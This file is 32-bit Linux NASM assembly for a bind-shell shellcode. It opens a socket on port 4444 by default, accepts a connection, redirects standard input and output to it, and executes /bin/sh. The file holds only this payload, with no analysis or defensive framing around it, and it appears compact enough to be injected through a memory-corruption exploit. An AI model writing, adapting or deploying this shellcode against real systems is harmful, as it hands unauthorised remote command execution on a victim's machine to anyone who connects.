; Linux, 32 bit: a shell for whoever connects to PORT, through socketcall.
bits 32
%ifndef PORT
%define PORT 4444
%endif
        xor ebx, ebx
        mul ebx
        push ebx                ; socket(2, 1, 0)
        inc ebx
        push ebx
        push byte 2
        mov ecx, esp
        mov al, 102
        int 80h
        mov esi, eax
        xor edx, edx            ; bind(s, {2, PORT, 0}, 16)
        push edx
        push word ((PORT & 255) << 8) | (PORT >> 8)
        push word 2
        mov ecx, esp
        push byte 16
        push ecx
        push esi
        mov ecx, esp
        push byte 2
        pop ebx
        push byte 102
        pop eax
        int 80h
        push edx                ; listen(s, 0)
        push esi
        mov ecx, esp
        mov bl, 4
        push byte 102
        pop eax
        int 80h
        push edx                ; accept(s, 0, 0)
        push edx
        push esi
        mov ecx, esp
        mov bl, 5
        push byte 102
        pop eax
        int 80h
        xchg eax, ebx           ; dup2(c, 2 … 0)
        push byte 2
        pop ecx
again:  push byte 63
        pop eax
        int 80h
        dec ecx
        jns again
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        cdq
        mov al, 11
        int 80h
